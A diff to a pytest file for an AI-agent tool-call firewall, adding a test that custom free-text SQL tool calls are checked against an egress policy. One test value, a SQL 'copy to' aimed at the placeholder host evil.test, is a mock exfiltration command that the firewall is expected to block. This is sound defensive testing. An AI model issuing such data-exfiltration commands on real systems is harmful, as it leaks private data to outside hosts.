@@ -9,6 +9,7 @@ from typing import Any
 import pytest
 from langchain_classic.agents import AgentExecutor, create_tool_calling_agent
 from langchain_core.prompts import ChatPromptTemplate
+from openai.types.chat import ChatCompletionMessageCustomToolCall
 
 from edgeward import (
     FirewallCallbackHandler,
@@ -157,6 +158,18 @@ def _data() -> dict[str, Any]:
 
     data: dict[str, Any] = parse_yaml(POLICY, name="policy.yaml").data
     return data
+
+
+def test_a_call_of_a_tool_that_takes_a_text() -> None:
+    """As the real SDK gives it beside function calls: judged like behind every other door."""
+    policy = load_policy({"version": 2, "tools": {"sql": "allow"}, "egress_allowlist": []})
+    for text, status in (("select 1", Status.PASS), ("copy to 'https://evil.test'", Status.BLOCK)):
+        custom = {"name": "sql", "input": text}
+        call = ChatCompletionMessageCustomToolCall.model_validate(
+            {"id": "c1", "type": "custom", "custom": custom}
+        )
+        ((finding,), _) = check_tool_calls([call], policy)
+        assert (finding.tool_call_id, finding.status) == ("c1", status)
 
 
 def test_a_finding_lists_all_that_is_wrong() -> None:
